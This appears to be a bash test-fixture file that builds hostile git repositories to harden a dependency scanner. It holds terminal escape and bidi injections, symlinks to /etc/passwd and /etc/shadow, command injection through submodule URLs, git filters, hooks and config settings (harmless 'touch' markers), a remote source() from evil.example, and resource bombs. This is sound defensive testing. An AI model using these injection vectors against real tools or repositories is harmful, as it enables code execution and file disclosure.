# The hostile repositories (issue #9), one function each: case_NAME DIR builds
# a repository in DIR. Each is something an attacker or an accident can put
# in a repository deputy is pointed at. MARK is a file that must never come
# to exist: hooks, filters and configured commands would create it.
# shellcheck shell=bash

G=(git -c user.name=Test -c user.email=test@example.invalid -c init.defaultBranch=main
   -c commit.gpgsign=false -c core.hooksPath=/dev/null)

# init DIR: an empty repository; commit DIR MSG: everything, committed.
init() { "${G[@]}" init -q "$1"; }
commit() { "${G[@]}" -C "$1" add -A && "${G[@]}" -C "$1" commit -qm "${2:-files}"; }

ESC=$'\e'
BEL=$'\a'

case_ansi_names() {
	init "$1"
	printf 'requests==2.31.0\nevil%s[31mred%s[0m==1.0\nx%s]0;pwned%s==1\nclear%s[2J%s[H==1\n' \
		"$ESC" "$ESC" "$ESC" "$BEL" "$ESC" "$ESC" >"$1/requirements.txt"
	printf 'library("%s]52;c;cGF5bG9hZA==%s")\n' "$ESC" "$BEL" >"$1/a.R"
	commit "$1"
}

case_bidi_names() {
	init "$1"
	printf 'reque\xe2\x80\xaests==1.0\n\xe2\x81\xa6flask\xe2\x81\xa9==2.0\npkg\xc2\x9b31m==1\nzw\xe2\x80\x8bj==1\n' \
		>"$1/requirements.txt"
	commit "$1"
}

case_ansi_file_names() {
	init "$1"
	mkdir -p "$1/requirements"
	printf 'flask==2.0\n' >"$1/requirements/x${ESC}]0;pwned${BEL}.txt"
	printf 'numpy==1.0\n' >"$1/requirements/y${ESC}[2Jz.txt"
	printf 'six==1.0\n' >"$1/requirements/new"$'\n'"line.txt"
	commit "$1"
}

case_ansi_commit_author() {
	init "$1"
	printf 'requests==2.31.0\n' >"$1/requirements.txt"
	"${G[@]}" -C "$1" add -A
	GIT_AUTHOR_NAME="Mal${ESC}]0;pwned${BEL}lory" GIT_AUTHOR_EMAIL="m${ESC}[31m@x" \
		"${G[@]}" -C "$1" commit -qm "msg ${ESC}[2J${ESC}]0;title${BEL} end"
}

case_invalid_utf8() {
	init "$1"
	printf 'caf\xe9==1.0\n\xff\xfe\xfd==2\nok==1 # \xc3\x28 \xe2\x82 \xf0\x90\x80\n\xed\xa0\x80x==1\n' \
		>"$1/requirements.txt"
	printf 'library(\xff\xfe)\n# \xc0\xaf\n' >"$1/b.R"
	printf 'Package: x\xff\nImports: \xfe\xfd\n' >"$1/DESCRIPTION"
	commit "$1"
}

case_huge_line() {
	init "$1"
	head -c $((100 * 1024 * 1024)) /dev/zero | tr '\0' 'a' >"$1/requirements.txt"
}

case_sparse_10g() {
	init "$1"
	truncate -s 10G "$1/requirements.txt"
	truncate -s 1G "$1/analysis.ipynb"
}

case_include_chain() {
	init "$1"
	mkdir -p "$1/r"
	for i in $(seq 0 9999); do printf -- '-r %d.txt\npkg%d==1\n' $((i + 1)) "$i" >"$1/r/$i.txt"; done
	printf -- '-r r/0.txt\n' >"$1/requirements.txt"
}

case_include_bomb() {
	init "$1"
	for i in $(seq 0 39); do
		printf -- '-r b%d.txt\n-r b%d.txt\n-c b%d.txt\npkg%d==1\n' $((i + 1)) $((i + 1)) $((i + 1)) "$i" \
			>"$1/b$i.txt"
	done
	printf 'last==1\n' >"$1/b40.txt"
	cp "$1/b0.txt" "$1/requirements.txt"
}

case_include_outside() {
	init "$1"
	printf -- '-r /etc/passwd\n-r ../../x.txt\n-c /tmp/abs-constraints.txt\n-r %s\nflask==2.0\n' \
		"$1/../outside.txt" >"$1/requirements.txt"
	printf 'evil==1\n' >"$1/../outside.txt"
	commit "$1"
}

case_symlinks() {
	init "$1"
	ln -s loop-b "$1/loop-a"
	ln -s loop-a "$1/loop-b"
	ln -s requirements-self.txt "$1/requirements-self.txt"
	ln -s /etc/passwd "$1/requirements.txt"
	mkdir -p "$1/requirements"
	ln -s /etc "$1/requirements/etc.txt"
	ln -s ../../../../../../../../etc/shadow "$1/requirements-dev.txt"
	ln -s / "$1/root"
	commit "$1"
}

case_submodule_url() {
	init "$1"
	cat >"$1/.gitmodules" <<CONF
[submodule "a"]
	path = a
	url = ext::sh -c touch% $MARK
[submodule "b"]
	path = b
	url = --upload-pack=touch $MARK
[submodule "c${ESC}]0;x${BEL}"]
	path = c
	url = https://example.invalid/${ESC}[31m
CONF
	printf 'flask==2.0\n' >"$1/requirements.txt"
	commit "$1"
	"${G[@]}" -C "$1" update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,a
	"${G[@]}" -C "$1" commit -qm submodule
}

case_filters_and_hooks() {
	init "$1"
	printf '* filter=evil diff=evil merge=evil\n*.txt text eol=crlf ident\n' >"$1/.gitattributes"
	printf 'flask==2.0\n' >"$1/requirements.txt"
	commit "$1"
	"${G[@]}" -C "$1" config filter.evil.smudge "touch $MARK"
	"${G[@]}" -C "$1" config filter.evil.clean "touch $MARK"
	"${G[@]}" -C "$1" config filter.evil.process "touch $MARK"
	"${G[@]}" -C "$1" config diff.evil.textconv "touch $MARK"
	for h in post-checkout pre-commit post-index-change reference-transaction fsmonitor-watchman; do
		printf '#!/bin/sh\ntouch %s\n' "$MARK" >"$1/.git/hooks/$h"
		chmod +x "$1/.git/hooks/$h"
	done
}

case_git_config_commands() {
	init "$1"
	printf 'flask==2.0\n' >"$1/requirements.txt"
	commit "$1"
	# written by hand: git itself would refuse to run with some of these
	cat >>"$1/.git/config" <<CONF
[core]
	fsmonitor = touch $MARK
	sshCommand = touch $MARK
	pager = touch $MARK
	editor = touch $MARK
	worktree = /etc
[credential]
	helper = !touch $MARK
[gpg]
	program = touch $MARK
[include]
	path = /etc/passwd
CONF
}

# deep FILE OPEN CLOSE N PREFIX SUFFIX: PREFIX, N times OPEN, N times CLOSE, SUFFIX.
deep() {
	python3 -c 'import sys; o, c, n, p, s = sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5], sys.argv[6]
open(sys.argv[1], "w").write(p + o * n + c * n + s)' "$@"
}

case_deep_toml() {
	init "$1"
	deep "$1/pyproject.toml" '[' ']' 100000 $'[project]\nname = "x"\ndependencies = ' $'\n'
	deep "$1/Pipfile" '{a=' '}' 100000 $'[packages]\nx = ' $'\n'
	commit "$1"
}

case_deep_json() {
	init "$1"
	deep "$1/renv.lock" '[' ']' 200000 '{"Packages": ' '}'
	deep "$1/Pipfile.lock" '{"a":' '}' 200000 '{"default": ' '}'
	deep "$1/x.ipynb" '[' ']' 200000 '{"cells": ' '}'
	commit "$1"
}

case_deep_r() {
	init "$1"
	deep "$1/deep.R" '(' ')' 200000 'x <- ' $'\nlibrary(dplyr)\n'
	deep "$1/calls.R" 'f(' ')' 100000 'install.packages(' $')\n'
	deep "$1/braces.R" '{' '}' 100000 '' $'\n'
	commit "$1"
}

case_deep_yaml() {
	init "$1"
	deep "$1/environment.yml" '[' ']' 100000 $'name: x\ndependencies: ' $'\n'
	mkdir -p "$1/.github/workflows"
	deep "$1/.github/workflows/ci.yml" '{a: ' '}' 50000 $'on: push\njobs: ' $'\n'
	commit "$1"
}

case_deep_python() {
	init "$1"
	deep "$1/setup.py" '[' ']' 100000 $'from setuptools import setup\nsetup(name="x", install_requires=' $')\n'
	deep "$1/setup2.py" '(' ')' 100000 $'import setuptools\nsetuptools.setup(install_requires=' $')\n'
	commit "$1"
}

case_notebook_1g() {
	init "$1"
	{ printf '{"cells": [{"cell_type": "code", "source": ["!pip install evil\\n", "'
	  head -c $((1024 * 1024 * 1024)) /dev/zero | tr '\0' 'x'
	  printf '"]}]}'; } >"$1/big.ipynb"
}

case_corrupt_object() {
	init "$1"
	printf 'flask==2.0\n' >"$1/requirements.txt"
	commit "$1"
	local blob obj
	blob=$("${G[@]}" -C "$1" rev-parse HEAD:requirements.txt)
	obj="$1/.git/objects/${blob:0:2}/${blob:2}"
	chmod u+w "$obj"
	printf 'garbage' >"$obj"
}

case_truncated_pack() {
	init "$1"
	for i in $(seq 1 10); do printf 'pkg%d==1.0\n' "$i" >>"$1/requirements.txt"; commit "$1" "c$i"; done
	"${G[@]}" -C "$1" gc -q --aggressive >/dev/null 2>&1
	local pack
	pack=$(ls "$1"/.git/objects/pack/*.pack | head -1)
	truncate -s $(( $(stat -c %s "$pack") / 2 )) "$pack"
}

case_many_commits() {
	init "$1"
	python3 - "$1" <<'PY' | "${G[@]}" -C "$1" fast-import --quiet
import sys
out = sys.stdout
for i in range(1, 100001):
    body = "pkg%d==1.%d\n" % (i % 50, i)
    out.write("commit refs/heads/main\ncommitter T <t@example.invalid> %d +0000\n" % (1700000000 + i))
    out.write("data %d\nc%d\n" % (len("c%d" % i), i))
    if i > 1:
        pass
    out.write("M 100644 inline requirements.txt\ndata %d\n%s\n" % (len(body), body))
PY
	"${G[@]}" -C "$1" reset -q --hard main
}

case_nul_bytes() {
	init "$1"
	printf 'flask==2.0\n\0evil==1\n' >"$1/requirements.txt"
	printf 'library(x)\0library(y)\n' >"$1/c.R"
	commit "$1"
}

case_control_lines() {
	init "$1"
	printf 'flask==2.0\r\nreq\rests==1\r\nnum\x08py==1\n\x7fdel==1\nform\x0cfeed==1\nvt\x0b==1\n' \
		>"$1/requirements.txt"
	printf 'source("http://evil.example/\e[31mx.R")\ndevtools::install_github("a/b\e]0;x\a")\n' >"$1/d.R"
	commit "$1"
}

case_long_name() {
	init "$1"
	{ head -c $((1024 * 1024)) /dev/zero | tr '\0' 'a'; printf '==1.0\n'; } >"$1/requirements.txt"
	{ printf 'library('; head -c 500000 /dev/zero | tr '\0' 'b'; printf ')\n'; } >"$1/e.R"
	commit "$1"
}

case_description_bomb() {
	init "$1"
	python3 -c '
import sys
with open(sys.argv[1], "w") as f:
    f.write("Package: x\nImports: " + ", ".join("p%d" % i for i in range(200000)) + "\n")
    for i in range(50000):
        f.write("Field%d: value\n  continued\n" % i)
' "$1/DESCRIPTION"
	commit "$1"
}

case_warning_flood() {
	# An installed environment whose metadata warns again and again after
	# 300,000 short lines: the line of each warning must not be counted
	# again from the start of the file (that took minutes).
	init "$1"
	mkdir -p "$1/.venv"
	printf 'home = /usr/bin\n' >"$1/.venv/pyvenv.cfg"
	python3 -c '
import os, sys
site = os.path.join(sys.argv[1], "lib", "python3.11", "site-packages")
for i in range(10):
    d = os.path.join(site, "flood%d-1.0.dist-info" % i)
    os.makedirs(d)
    with open(os.path.join(d, "METADATA"), "w") as f:
        f.write("Metadata-Version: 2.1\nName: flood%d\nVersion: 1.0\n" % i)
        f.write("Summary: x\n" + " x\n" * 300000)
        f.write("Requires-Dist: !\n" * 5000)
' "$1/.venv"
	printf 'requests\n' >"$1/requirements.txt"
	commit "$1"
}

case_cr_flood() {
	# A DESCRIPTION of 300,000 malformed lines ending in CR alone (one long
	# line to a line counter), each starting inside a UTF-8 sequence: every
	# error's column must not be counted again from the start of the file
	# (that took minutes).
	init "$1"
	python3 -c '
import sys
sys.stdout.buffer.write(b"Package: flood\r" + b"\x98bad line\r" * 300000)
' >"$1/DESCRIPTION"
	commit "$1"
}

case_tox_sections() {
	# A tox.ini of 50,000 [testenv:NAME] sections, each with deps and
	# commands: each value read must cost its own length, not the file's
	# (a copy of the whole file for each took 18 s for 8,000 sections).
	init "$1"
	python3 -c '
import sys
out = ["[tox]\nenvlist = py\n"]
for i in range(50000):
    out.append("[testenv:e%d]\ndeps = pkg%d\ncommands = pytest\n" % (i, i % 50))
sys.stdout.write("\n".join(out))
' >"$1/tox.ini"
	commit "$1"
}

case_conda_flow_lines() {
	# An environment.yml whose pip list is a flow of 500 lines of 20 items
	# followed by 5 MB of comments: each line of items must cost its own
	# length, not the file's (a pass over the whole file for each took 68 s
	# with 2 MB of comments).
	init "$1"
	python3 -c '
import sys
lines = ["    " + ", ".join("p%d" % i for i in range(k, k + 20)) + "," for k in range(0, 10000, 20)]
sys.stdout.write("name: x\ndependencies:\n  - python=3.11\n  - pip: [\n" + "\n".join(lines) + "\n    ]\n")
sys.stdout.write(("#" + "." * 99 + "\n") * 50000)
' >"$1/environment.yml"
	commit "$1"
}

case_shell_pieces() {
	# A README of 100,000 fenced shell blocks and a Dockerfile of 100,000
	# RUN lines: each block or command, read on its own, must find its line
	# without walking the file from the start (that took 34 s for 50,000
	# blocks).
	init "$1"
	python3 -c '
import sys
sys.stdout.write("".join("step %d\n```bash\npip install flask\n```\n" % i for i in range(100000)))
' >"$1/README.md"
	python3 -c '
import sys
sys.stdout.write("FROM python\n" + "".join("RUN pip install six==1.%d\n" % i for i in range(100000)))
' >"$1/Dockerfile"
	commit "$1"
}

case_gitlab_extends() {
	# Three GitLab CI files. 100,000 jobs, each extending two templates, one
	# missing and one in an extends cycle: looking templates up must not
	# cost the whole file for each job (a lookup of default: per job took
	# 49 s for 40,000 jobs). A template of 100,000 keys that one job extends
	# 100,000 times: each template is read once (30 s for half as many when
	# read per use).
	# 5,000 jobs inheriting a 5,000-line before_script: what is replayed for
	# the jobs is capped (10 s and 800 MB before).
	init "$1"
	python3 -c '
import sys
sys.stdout.write("".join("j%d:\n  extends: [.gone, .t]\n  script: [pip install -r r.txt]\n" % i
                         for i in range(100000)))
sys.stdout.write(".t:\n  extends: .t\n  before_script: [cd sub]\ndefault:\n  before_script: [cd d]\n")
' >"$1/.gitlab-ci.yml"
	mkdir -p "$1/sub" "$1/wide" "$1/long"
	printf 'flask\n' >"$1/sub/r.txt"
	python3 -c '
import sys
sys.stdout.write(".t:\n" + "".join("  k%d: v\n" % i for i in range(100000)))
sys.stdout.write("job:\n  extends: [" + ", ".join([".t"] * 100000) + "]\n  script: [pip install six]\n")
' >"$1/wide/.gitlab-ci.yml"
	python3 -c '
import sys
sys.stdout.write("default:\n  before_script:\n" + "".join("    - cd d%d\n" % i for i in range(5000)))
sys.stdout.write("".join("j%d:\n  script: [pip install six]\n" % i for i in range(5000)))
' >"$1/long/.gitlab-ci.yml"
	commit "$1"
}

case_r_function_calls() {
	# An R function whose parameter is loaded 100 times, called 200,000
	# times with a different name each: the parameter's values are joined
	# once, and past 1,000 of them it is unknown (each use joining them all
	# again took 23 GB and was killed after 68 s).
	init "$1"
	python3 -c '
import sys
sys.stdout.write("f <- function(p) {\n" + "  library(p, character.only = TRUE)\n" * 100 + "}\n")
sys.stdout.write("".join("f(\"pkg%d\")\n" % i for i in range(200000)))
' >"$1/calls.R"
	commit "$1"
}

case_missing_includes() {
	# A requirements.txt of 200,000 "-r" lines naming a file that is not
	# there: each diagnostic must find its line from the one before, not from
	# the top of the file (78 s before, when each started from the top).
	init "$1"
	python3 -c '
import sys
sys.stdout.write("-r missing.txt\n" * 200000)
' >"$1/requirements.txt"
	commit "$1"
}

case_many_files() {
	init "$1"
	for d in $(seq 1 100); do
		mkdir -p "$1/d$d/requirements"
		for f in $(seq 1 50); do printf 'p%d-%d==1\n' "$d" "$f" >"$1/d$d/requirements/r$f.txt"; done
	done
	commit "$1"
}

case_review_file_hostile() {
	init "$1"
	printf 'flask\n' >"$1/requirements.txt"
	ln -s /etc/passwd "$1/.deputy-review.json"
	commit "$1"
}

# A review file at its size limit (4 MiB), written by hand or by an
# attacker: 20,000 decisions in no order beside 10,000 findings, most about
# names the scan does not have (stale: listed in the report), their names,
# reasons and reviewers full of escape sequences, bidi controls and bytes
# that are not UTF-8.
case_review_file_big() {
	init "$1"
	python3 - "$1" <<'PY'
import json, random, sys
root = sys.argv[1]
rnd = random.Random(20261127)
names = ["zq%05dpkg" % i for i in range(5000)]
with open(root + "/requirements.txt", "w") as f:
    f.write("".join(n + "\n" for n in names))
bad = ["\x1b]0;pwned\x07", "\x1b[2J", "\u202e", "\x9b31m", "\x00", "\udcff"]
decisions = []
for i in range(20000):
    mine = i < 5000
    name = names[i] if mine else "gone%05d%s" % (i, bad[i % len(bad)])
    decisions.append({"ecosystem": "pypi", "package": name,
                      "rule": "unpinned" if mine or i % 3 else "typo\x1b[31msquat",
                      "file": "requirements.txt" if mine else "r\x1b[Kq.txt",
                      "reviewed_at": "", "decision": "reviewed" if i % 2 else "accepted",
                      "reason": "ok " + bad[i % len(bad)], "reviewer": "r" + bad[(i + 1) % len(bad)],
                      "date": "2026-01-01"})
rnd.shuffle(decisions)
text = json.dumps({"version": 1, "decisions": decisions}, separators=(",", ":"))
data = text.encode("utf-8", "surrogateescape").replace(b"\\udcff", b"\xff")
assert len(data) < 4 * 1024 * 1024, len(data)
open(root + "/.deputy-review.json", "wb").write(data)
PY
	commit "$1"
}

case_gitdir_file() {
	# .git is a file pointing elsewhere (as in a worktree) — at a folder that is not a repository
	mkdir -p "$1"
	printf 'gitdir: /etc\n' >"$1/.git"
	printf 'flask==2.0\n' >"$1/requirements.txt"
}

case_unreadable() {
	init "$1"
	printf 'flask==2.0\n' >"$1/requirements.txt"
	printf 'six==1\n' >"$1/requirements-dev.txt"
	commit "$1"
	chmod 000 "$1/requirements-dev.txt"
}

case_bare_and_shallow_refs() {
	init "$1"
	printf 'flask==2.0\n' >"$1/requirements.txt"
	commit "$1"
	printf 'ref: refs/heads/%s]0;x%s\n' "$ESC" "$BEL" >"$1/.git/HEAD"
}

# A FIFO named like a dependency file (and one that is not): opening it to
# read would wait for a writer forever. git cannot commit a FIFO, so it is in
# the working tree only.
case_special_files() {
	init "$1"
	printf 'flask==2.0\n' >"$1/requirements-dev.txt"
	commit "$1"
	mkfifo "$1/requirements.txt" "$1/notes"
	mkdir -p "$1/sub"
	mkfifo "$1/sub/pyproject.toml"
}

# Every case, in the order they run.
CASES=(ansi_names bidi_names ansi_file_names ansi_commit_author invalid_utf8 huge_line sparse_10g
	include_chain include_bomb include_outside symlinks submodule_url filters_and_hooks
	git_config_commands deep_toml deep_json deep_r deep_yaml deep_python notebook_1g
	corrupt_object truncated_pack many_commits nul_bytes control_lines long_name
	description_bomb warning_flood cr_flood tox_sections conda_flow_lines shell_pieces gitlab_extends r_function_calls missing_includes many_files review_file_hostile review_file_big gitdir_file unreadable bare_and_shallow_refs special_files)
